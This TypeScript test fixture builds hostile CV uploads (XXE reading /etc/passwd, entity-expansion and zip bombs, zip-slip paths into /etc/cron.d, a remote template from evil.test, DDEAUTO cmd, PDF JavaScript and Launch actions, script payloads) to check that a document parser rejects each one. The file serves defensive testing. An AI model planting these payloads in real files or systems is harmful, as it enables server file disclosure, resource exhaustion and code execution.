import { column, pdfOf } from '../../libs/document-reading/src/testing/made-pdf.js';
import { CV_LINES, docxFile, odtFile, PDF, RTF, zipFile } from '../support/cv-files.js';
import { pdfBomb, pdfThatOrders, pdfWithPassword } from './hostile-pdfs.js';

export interface HostileCv {
  what: string;
  /** As its sender calls it. */
  name: string;
  code: string;
  make: () => Buffer | Promise<Buffer>;
}

const MEGABYTE = 1024 * 1024;
const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

const body = (inside: string, before = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${before}<w:document ${WORD}><w:body><w:p><w:r><w:t>${inside}</w:t></w:r></w:p></w:body></w:document>`;
const LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
const ENTITY = '<!DOCTYPE x [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>';
/** Where Word of 2007 and earlier keeps things, a folder of files in one. */
const compound = (stream: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1_016),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(2_048),
  ]);

/** Replaces a text of the same length in the names of a ZIP file, for names that no library writes. */
async function zipWithName(name: string): Promise<Buffer> {
  const placeholder = 'x'.repeat(name.length);
  const zip = await docxFile({ [placeholder]: 'slip' });
  return Buffer.from(zip.toString('latin1').replaceAll(placeholder, name), 'latin1');
}

/** An entry that says it is small, and is not. */
async function zipWithLie(): Promise<Buffer> {
  const zip = await docxFile({ 'word/media/image1.png': Buffer.alloc(32 * MEGABYTE) });
  const size = Buffer.alloc(4);
  size.writeUInt32LE(32 * MEGABYTE);
  const lie = Buffer.alloc(4);
  lie.writeUInt32LE(1_000);
  return Buffer.from(zip.toString('latin1').replaceAll(size.toString('latin1'), lie.toString('latin1')), 'latin1');
}

const deepZip = async () => {
  const inner = await zipFile({ 'word/document.xml': 'x'.repeat(MEGABYTE) });
  return docxFile({ 'word/embeddings/inner.zip': inner });
};

const manyEntries = () =>
  docxFile(Object.fromEntries(Array.from({ length: 2_001 }, (_, n) => [`word/media/image${n}.png`, 'x'])));

const nested = (depth: number) => body(`${'<w:r>'.repeat(depth)}${'</w:r>'.repeat(depth)}`);

/** What nobody's CV is, and what it is called when it is refused. */
export const HOSTILE_CVS: HostileCv[] = [
  { what: 'nothing at all', name: 'cv.pdf', code: 'CV_EMPTY', make: () => Buffer.alloc(0) },
  {
    what: '11 MB',
    name: 'cv.pdf',
    code: 'CV_TOO_LARGE',
    make: () => Buffer.concat([PDF, Buffer.alloc(11 * MEGABYTE)]),
  },
  {
    what: 'a picture',
    name: 'cv.pdf',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'),
  },
  {
    what: 'a program',
    name: 'cv.docx',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from(`MZ${'\0'.repeat(200)}`, 'latin1'),
  },
  {
    what: 'three bytes of a program',
    name: 'cv.txt',
    code: 'CV_EMPTY',
    make: () => Buffer.from('MZ\x90', 'latin1'),
  },
  {
    what: 'a text with controls of a terminal',
    name: 'cv.txt',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from(`\x1b]0;title\x07${CV_LINES.join('\n')}`),
  },
  {
    what: 'a text without a sentence',
    name: 'cv.txt',
    code: 'CV_EMPTY',
    make: () => Buffer.from('\n\n2019 - 2021 *** CV ***\n'),
  },
  {
    what: 'a page of the web',
    name: 'cv.pdf',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from('<html><script>alert(1)</script></html>'),
  },
  {
    what: 'a picture with a script',
    name: 'cv.txt',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  },
  {
    what: 'bytes without meaning',
    name: 'cv.rtf',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from(Array.from({ length: 4_000 }, (_, n) => (n * 7_919) % 251)),
  },
  {
    what: 'a ZIP file of something else',
    name: 'cv.docx',
    code: 'CV_TYPE_UNKNOWN',
    make: () => zipFile({ 'notes.txt': 'hello' }),
  },
  {
    what: 'a ZIP file without anything in it',
    name: 'cv.docx',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
  },
  {
    what: 'a ZIP file of programs',
    name: 'cv.zip',
    code: 'CV_TYPE_UNKNOWN',
    make: () => zipFile({ 'setup.exe': 'MZ', 'more.zip': 'PK' }),
  },

  {
    what: 'XML of something else',
    name: 'cv.xml',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from('<?xml version="1.0"?><Invoice><Candidate_of/></Invoice>'),
  },
  {
    what: 'a profile in XML that wants a file of the server',
    name: 'cv.xml',
    code: 'CV_BROKEN',
    make: () => Buffer.from(`<?xml version="1.0"?>${ENTITY}<Candidate>&passwd;</Candidate>`),
  },
  {
    what: 'JSON of something else',
    name: 'cv.json',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.from('{"name": "babelboard", "version": "0.1.0"}'),
  },
  {
    what: 'JSON that was cut off',
    name: 'cv.json',
    code: 'CV_BROKEN',
    make: () => Buffer.from('{"basics": {"name": "Ada'),
  },
  { what: 'a Word document of before 2007', name: 'cv.doc', code: 'CV_OLD_WORD', make: () => compound('WordDocument') },
  {
    what: 'a Word document with a password',
    name: 'cv.docx',
    code: 'CV_ENCRYPTED',
    make: () => compound('EncryptedPackage'),
  },
  {
    what: 'a LibreOffice document with a password',
    name: 'cv.odt',
    code: 'CV_ENCRYPTED',
    make: () =>
      odtFile({ 'META-INF/manifest.xml': '<manifest:manifest><manifest:encryption-data /></manifest:manifest>' }),
  },
  {
    what: 'a PDF with a password',
    name: 'cv.pdf',
    code: 'CV_ENCRYPTED',
    make: () => pdfWithPassword({ userPassword: 'open sesame' }),
  },

  { what: 'a PDF that was cut off', name: 'cv.pdf', code: 'CV_BROKEN', make: () => PDF.subarray(0, PDF.length / 2) },
  {
    what: 'a PDF with nothing behind its first line',
    name: 'cv.pdf',
    code: 'CV_BROKEN',
    make: () => Buffer.from('%PDF-1.7\n%%EOF'),
  },
  {
    what: 'a Word document that was cut off',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: async () => (await docxFile()).subarray(0, 400),
  },
  {
    what: 'an RTF document that was cut off',
    name: 'cv.rtf',
    code: 'CV_BROKEN',
    make: () => RTF.subarray(0, RTF.length - 1),
  },
  {
    what: 'a ZIP file whose names lead out of it',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => zipWithName('../../../../tmp/slip.txt'),
  },
  {
    what: 'a ZIP file with names from the root',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => zipWithName('/etc/cron.d/slip'),
  },
  {
    what: 'a ZIP file with names of Windows',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => zipWithName('..\\..\\slip.txt'),
  },
  {
    what: 'entities that grow',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => docxFile({ 'word/document.xml': body('&c;', LAUGHS) }),
  },
  {
    what: 'an entity that is a file of the server',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => docxFile({ 'word/document.xml': body('&passwd;', ENTITY) }),
  },
  {
    what: 'a document type in an encoding that hides it',
    name: 'cv.odt',
    code: 'CV_BROKEN',
    make: () => odtFile({ 'content.xml': Buffer.from(`\uFEFF${ENTITY}<x/>`, 'utf16le') }),
  },
  {
    what: 'a document type in a part that nobody reads',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => docxFile({ 'docProps/custom.xml': `${ENTITY}<x/>` }),
  },
  {
    what: 'elements ten thousand deep',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: () => docxFile({ 'word/document.xml': nested(10_000) }),
  },

  {
    what: 'a bomb of 32 MB',
    name: 'cv.docx',
    code: 'CV_TOO_COMPLEX',
    make: () => docxFile({ 'word/document.xml': Buffer.alloc(32 * MEGABYTE, ' ') }),
  },
  { what: 'a bomb that lies about its size', name: 'cv.docx', code: 'CV_BROKEN', make: zipWithLie },
  { what: 'a ZIP file in a ZIP file', name: 'cv.docx', code: 'CV_TOO_COMPLEX', make: deepZip },
  { what: 'two thousand files', name: 'cv.docx', code: 'CV_TOO_COMPLEX', make: manyEntries },
  { what: 'a PDF that unpacks to two gigabytes', name: 'cv.pdf', code: 'CV_TOO_COMPLEX', make: pdfBomb },
  {
    what: 'groups a million deep',
    name: 'cv.rtf',
    code: 'CV_TOO_COMPLEX',
    make: () => Buffer.from(`{\\rtf1${'{'.repeat(1_000_000)}`),
  },
  {
    what: 'a PDF of 5,000 pages',
    name: 'cv.pdf',
    code: 'CV_TOO_MANY_PAGES',
    make: () => Buffer.from(pdfOf(...Array.from({ length: 5_000 }, (_, n) => column(50, 60, 20, `Page ${n}`)))),
  },
  {
    what: 'a text as long as ten novels',
    name: 'cv.txt',
    code: 'CV_TOO_MANY_PAGES',
    make: () => Buffer.from('word '.repeat(MEGABYTE)),
  },

  {
    what: 'a document with macros',
    name: 'cv.docx',
    code: 'CV_HAS_PROGRAM',
    make: () => docxFile({ 'word/vbaProject.bin': 'Attribute VB_Name' }),
  },
  {
    what: 'a document with a program in it',
    name: 'cv.odt',
    code: 'CV_HAS_PROGRAM',
    make: () => odtFile({ 'Pictures/setup.exe': 'MZ' }),
  },
  {
    what: 'a document whose template lies elsewhere',
    name: 'cv.docx',
    code: 'CV_REACHES_OUT',
    make: () =>
      docxFile({
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>',
      }),
  },
  {
    what: 'a document that asks another program',
    name: 'cv.docx',
    code: 'CV_HAS_PROGRAM',
    make: () => docxFile({ 'word/header1.xml': `<w:hdr ${WORD}><w:fldSimple w:instr="DDEAUTO cmd"/></w:hdr>` }),
  },
  {
    what: 'a document with a picture from a site',
    name: 'cv.odt',
    code: 'CV_REACHES_OUT',
    make: () => odtFile({ 'styles.xml': '<a><draw:image xlink:href="https://evil.test/a.png"/></a>' }),
  },
  {
    what: 'a PDF with a link to a file',
    name: 'cv.pdf',
    code: 'CV_REACHES_OUT',
    make: () => pdfThatOrders({ catalog: '/OpenAction << /S /URI /URI <66696C653A2F2F2F612E657865> >>' }),
  },
  {
    what: 'an RTF document with an object',
    name: 'cv.rtf',
    code: 'CV_HAS_PROGRAM',
    make: () => Buffer.from('{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002}}}'),
  },
  {
    what: 'a PDF with a script that runs when it is opened',
    name: 'cv.pdf',
    code: 'CV_HAS_PROGRAM',
    make: () => pdfThatOrders({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /J#61vaScript /JS (app.alert(1)) >>'] }),
  },
  {
    what: 'a PDF that starts a program, packed as most are',
    name: 'cv.pdf',
    code: 'CV_HAS_PROGRAM',
    make: () =>
      pdfThatOrders({
        page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A 4 0 R >>]',
        objects: ['<< /S /Launch /F (calc) >>'],
        packed: true,
      }),
  },

  {
    what: 'a PDF that is also a ZIP file',
    name: 'cv.pdf',
    code: 'CV_SEVERAL_FORMATS',
    make: async () => Buffer.concat([PDF, await zipFile({ 'a.txt': CV_LINES.join() })]),
  },
  {
    what: 'a ZIP file behind a picture',
    name: 'cv.docx',
    code: 'CV_TYPE_UNKNOWN',
    make: async () => Buffer.concat([Buffer.from('GIF89a'), await docxFile()]),
  },
  {
    what: 'a ZIP file with more behind its end',
    name: 'cv.docx',
    code: 'CV_BROKEN',
    make: async () => Buffer.concat([await docxFile(), Buffer.from('<script>alert(1)</script>')]),
  },
  {
    what: 'a PDF behind a page of the web',
    name: 'cv.pdf',
    code: 'CV_TYPE_UNKNOWN',
    make: () => Buffer.concat([Buffer.from('<html><script>1</script>\n'), PDF]),
  },
];
